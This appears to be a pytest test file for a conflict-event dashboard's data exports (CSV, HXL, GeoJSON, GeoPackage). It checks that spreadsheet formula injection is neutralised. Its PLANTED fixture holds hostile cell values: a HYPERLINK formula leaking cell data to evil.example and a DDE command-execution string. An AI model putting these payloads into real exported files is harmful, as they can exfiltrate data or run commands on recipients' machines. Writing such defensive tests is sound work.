"""Exports: every format, HXL tags, formula-safe CSV, lossless GeoJSON round trip, vectorised at scale."""

from __future__ import annotations

import csv
import io
import json
import time
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from geopandas.testing import assert_geodataframe_equal

from dashboard.export import (
    FORMATS,
    HXL_TAGS,
    export_bytes,
    export_events,
    geojson_dict,
    hxl_tag,
    neutralise_formula,
    neutralise_frame,
)
from dashboard.filters import FilterSpec, apply
from dashboard.ingest import import_file
from dashboard.schema import COLUMNS, EventValidationError, validate_events
from dashboard.store import read_store, to_geodataframe

DATA = Path(__file__).parent / "data" / "ingest"
PLANTED = {
    "notes": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "location": "+cmd|' /C calc'!A0",
    "actor1": "-2+3",
    "source": "@SUM(1+1)*cmd",
    "infrastructure_detail": "\t=1+1",
}


@pytest.fixture(scope="module")
def store(reference: None, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """ACLED + UCDP samples: schema columns, extra columns of several dtypes and duplicate flags."""
    path = tmp_path_factory.mktemp("export") / "events.parquet"
    import_file(DATA / "acled_sample.csv", fmt="acled", store=path, progress=None)
    import_file(DATA / "ucdp_ged_sample.csv", fmt="ucdp", store=path, progress=None)
    return path


@pytest.fixture
def events(store: Path) -> gpd.GeoDataFrame:
    return read_store(store)


@pytest.fixture
def planted(events: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
    events = events.copy()
    for column, value in PLANTED.items():
        events.loc[0, column] = value
    events.loc[1, "longitude"] = -33.5  # a negative number must stay a number
    events.loc[1, "latitude"] = -12.25
    return events


def read_csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("fmt", FORMATS)
def test_export001_every_format_writes_every_row(events: gpd.GeoDataFrame, tmp_path: Path, fmt: str) -> None:
    path = export_events(events, fmt, tmp_path / f"out.{fmt}")
    if fmt in ("csv", "hxl"):
        rows = read_csv_rows(path.read_bytes())
        assert len(rows) == len(events) + 1 + (fmt == "hxl")
    elif fmt == "geojson":
        assert len(json.loads(path.read_text(encoding="utf-8"))["features"]) == len(events)
    elif fmt == "gpkg":
        back = gpd.read_file(path, layer="events", engine="pyogrio")
        assert len(back) == len(events) and back.crs.to_epsg() == 4326
        assert back["event_id"].tolist() == events["event_id"].tolist()
        assert (back.geometry.x == events["longitude"]).all() and (back.geometry.y == events["latitude"]).all()
    else:
        pd.testing.assert_frame_equal(read_store(path), events)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary file left behind


def test_export002_hxl_second_row_is_hashtags(events: gpd.GeoDataFrame) -> None:
    header, tags, first = read_csv_rows(export_bytes(events, "hxl"))[:3]
    assert tags == [hxl_tag(c) for c in header]
    tag = dict(zip(header, tags, strict=True))
    expected = {
        "event_id": "#event+code", "event_date": "#date+occurred", "event_type": "#event+type",
        "sub_event_type": "#event+type+sub", "actor1": "#group+name+first", "actor2": "#group+name+second",
        "admin1": "#adm1+name", "admin1_code": "#adm1+code", "location": "#loc+name", "latitude": "#geo+lat",
        "longitude": "#geo+lon", "killed": "#affected+killed", "injured": "#affected+injured",
        "source": "#meta+source", "notes": "#description",
    }  # fmt: skip
    assert {c: tag[c] for c in expected} == expected
    assert tag["killed_low"] == "#x_killed_low" and tag["possible_duplicate_of"] == "#x_possible_duplicate_of"
    assert all(t.startswith("#") and " " not in t for t in tags)
    assert first[header.index("event_id")] == events["event_id"].iloc[0]
    assert set(HXL_TAGS) == set(COLUMNS)


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_export003_planted_formulas_neutralised_numbers_kept(planted: gpd.GeoDataFrame, fmt: str) -> None:
    rows = read_csv_rows(export_bytes(planted, fmt))
    header, data = rows[0], rows[1 + (fmt == "hxl") :]
    first = dict(zip(header, data[0], strict=True))
    for column, value in PLANTED.items():
        assert first[column] == "'" + value  # text kept, behind an apostrophe
    second = dict(zip(header, data[1], strict=True))
    assert (second["longitude"], second["latitude"]) == ("-33.5", "-12.25")
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in data:
        for column, cell in zip(header, row, strict=True):
            if cell.startswith(dangerous):
                float(cell)  # only plain numbers may start with a sign
            assert column  # every cell has a column


def test_export004_neutralise_rules() -> None:
    cases = {"=1+1": "'=1+1", "-3": "-3", "-33.5": "-33.5", "+1e-3": "+1e-3", "-2+3": "'-2+3", "@x": "'@x",
             "-": "'-", "text": "text", "\r=1": "'\r=1"}  # fmt: skip
    assert {k: neutralise_formula(k) for k in cases} == cases
    assert neutralise_formula(-3.5) == -3.5 and neutralise_formula(None) is None
    frame = pd.DataFrame({"a": pd.array(list(cases), dtype="string"), "n": np.arange(len(cases)) - 5})
    out = neutralise_frame(frame)
    assert out["a"].tolist() == list(cases.values()) and out["n"].tolist() == frame["n"].tolist()


def test_export005_geojson_round_trip_is_lossless(events: gpd.GeoDataFrame, tmp_path: Path) -> None:
    path = export_events(events, "geojson", tmp_path / "events.geojson")
    store = tmp_path / "back.parquet"
    summary = import_file(path, fmt="geojson", store=store, progress=None)
    assert (summary.imported, summary.rejected) == (len(events), 0)
    back = read_store(store)
    assert list(back.columns) == list(events.columns)
    assert_geodataframe_equal(back, events, check_dtype=True, check_less_precise=False)


def test_export006_geojson_escaping_precision_and_axis_order(events: gpd.GeoDataFrame, tmp_path: Path) -> None:
    tricky = 'quote " backslash \\ newline \n tab \t cr \r bell \x07 nul-ish \x01 Кирилиця 🚀 \u2028 end'
    events = events.copy()
    events.loc[0, "notes"] = tricky
    events.loc[0, "latitude"] = 0.1 + 0.2  # needs 17 significant digits
    events.loc[0, "longitude"] = -33.123456789012345
    events = to_geodataframe(events)
    data = geojson_dict(events)
    feature = data["features"][0]
    assert feature["properties"]["notes"] == tricky
    assert feature["geometry"]["coordinates"] == [-33.123456789012345, 0.1 + 0.2]  # [lon, lat]
    assert feature["id"] == events["event_id"].iloc[0]
    assert feature["properties"]["infrastructure"] == events["infrastructure"].iloc[0]
    path = export_events(events, "geojson", tmp_path / "tricky.geojson")
    import_file(path, fmt="geojson", store=tmp_path / "s.parquet", progress=None)
    back = read_store(tmp_path / "s.parquet")
    assert back["notes"].iloc[0] == tricky and back["latitude"].iloc[0] == 0.1 + 0.2


def test_export007_filtered_frame_and_plain_dataframe(events: gpd.GeoDataFrame) -> None:
    spec = FilterSpec(regions=("UA-43", "UA-40"))  # Crimea and Sevastopol
    chosen = apply(events, spec)
    assert len(chosen) == 4
    plain = pd.DataFrame(chosen[[c for c in COLUMNS if c in chosen.columns]])  # as the dashboard passes it
    for fmt in FORMATS:
        data = export_bytes(plain, fmt)
        assert data
    collection = json.loads(export_bytes(plain, "geojson"))
    assert sorted(f["id"] for f in collection["features"]) == sorted(chosen["event_id"])
    assert len(read_csv_rows(export_bytes(chosen, "csv"))) == 5


@pytest.mark.parametrize("fmt", FORMATS)
def test_export008_empty_selection(events: gpd.GeoDataFrame, fmt: str) -> None:
    data = export_bytes(events.iloc[:0], fmt)
    if fmt == "geojson":
        assert json.loads(data)["features"] == []
    elif fmt in ("csv", "hxl"):
        assert len(read_csv_rows(data)) == 1 + (fmt == "hxl")


def test_export009_unknown_format(events: gpd.GeoDataFrame, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown export format 'xls'"):
        export_events(events, "xls", tmp_path / "x.xls")


def test_export010_geojson_is_vectorised(tmp_path: Path) -> None:
    n = 50_000
    rng = np.random.default_rng(1)
    frame = pd.DataFrame(
        {
            "event_id": [f"E-{i}" for i in range(n)],
            "event_date": "2024-01-01",
            "event_type": "Explosions/Remote violence",
            "location": "Kharkiv",
            "latitude": rng.uniform(46, 52, n),
            "longitude": rng.uniform(30, 40, n),
            "notes": np.where(rng.random(n) < 0.1, 'He said "hit"\nтут', "plain"),
            "infrastructure": [["energy"] if i % 3 else [] for i in range(n)],
            "dataset": "synthetic",
        }
    )
    events = to_geodataframe(validate_events(frame))
    started = time.perf_counter()
    path = export_events(events, "geojson", tmp_path / "big.geojson")
    elapsed = time.perf_counter() - started
    assert elapsed < 30  # a loose bound: the old per-row loop took about a minute per million rows
    data = json.loads(path.read_text(encoding="utf-8"))
    assert len(data["features"]) == n
    props = data["features"][7]["properties"]
    assert props["latitude"] == events["latitude"].iloc[7] and props["notes"] == events["notes"].iloc[7]
    # One feature per line: a feature's line is known without parsing the whole file.
    assert path.read_text(encoding="utf-8").count("\n") == n + 3


def test_export011_geojson_import_reports_the_line_of_a_bad_feature(events: gpd.GeoDataFrame, tmp_path: Path) -> None:
    path = export_events(events, "geojson", tmp_path / "events.geojson")
    lines = path.read_text(encoding="utf-8").split("\n")
    assert lines[1] == '"features":[' and lines[2].startswith('{"type":"Feature"')  # feature k on line k + 3
    lines[5] = lines[5].replace('"event_date":"', '"event_date":"not ', 1)  # feature 3
    lines[7] = lines[7].replace('"geometry":{"type":"Point"', '"geometry":{"type":"MultiPoint"', 1)  # feature 5
    path.write_text("\n".join(lines), encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    store = tmp_path / "s.parquet"
    summary = import_file(path, fmt="geojson", store=store, skip_invalid=True, rejects=rejects, progress=None)
    assert (summary.imported, summary.rejected) == (len(events) - 2, 2)
    rows = read_csv_rows(rejects.read_bytes())
    header = rows[0]
    assert [r[header.index("line")] for r in rows[1:]] == ["6", "8"]
    assert "event_date" in rows[1][header.index("reason")] and "Point" in rows[2][header.index("reason")]
    assert rows[1][header.index("event_id")] == events["event_id"].iloc[3]


def test_export012_geojson_from_other_tools(tmp_path: Path) -> None:
    other = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "geometry": {"type": "Point", "coordinates": [30.7326, 46.4775]},
                "properties": {
                    "Date": "2024-01-05",
                    "Kind": "Explosions/Remote violence",
                    "Place": "Odesa",
                    "note": "Drones hit the port",
                },
            },
        ],
    }
    path = tmp_path / "other.geojson"
    path.write_text(json.dumps(other, indent=2), encoding="utf-8")
    mapping = {"event_date": "Date", "event_type": "Kind", "location": "Place", "notes": "note"}
    store = tmp_path / "s.parquet"
    summary = import_file(path, fmt="geojson", mapping=mapping, store=store, progress=None)
    [event] = read_store(store).to_dict("records")
    assert summary.imported == 1 and event["dataset"] == "geojson"
    assert (event["longitude"], event["latitude"], event["admin1_code"]) == (30.7326, 46.4775, "UA-51")
    assert event["infrastructure"] == ["port"]  # derived: the file has no infrastructure column
    single = tmp_path / "single.geojson"
    single.write_text(json.dumps(other["features"][0]), encoding="utf-8")
    assert import_file(single, fmt="geojson", mapping=mapping, store=store, progress=None).duplicates == 1


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ('{"type": "FeatureCollection",\n "features": [\n {"type": "Feature",, }]}', 3, "not valid JSON"),
        ("[1, 2]", None, "FeatureCollection"),
        ('{"type": "Topology", "objects": {}}', None, "FeatureCollection"),
    ],
)
def test_export013_geojson_that_is_not_a_collection(tmp_path: Path, text: str, line: int | None, message: str) -> None:
    path = tmp_path / "bad.geojson"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(EventValidationError, match=message) as info:
        import_file(path, fmt="geojson", store=tmp_path / "s.parquet", progress=None)
    if line is not None:
        assert info.value.errors[0].line == line


def test_export014_csv_round_trip_keeps_every_schema_column(events: gpd.GeoDataFrame, tmp_path: Path) -> None:
    path = export_events(events, "csv", tmp_path / "events.csv")
    store = tmp_path / "back.parquet"
    assert import_file(path, fmt="csv", store=store, progress=None).imported == len(events)
    back = read_store(store)
    columns = [c for c in COLUMNS if c != "infrastructure"]
    pd.testing.assert_frame_equal(back[columns], events[columns], check_dtype=False)
    assert back["infrastructure"].tolist() == events["infrastructure"].tolist()
    assert back["killed_low"].astype("Int32").equals(events["killed_low"])  # extras come back as text in CSV
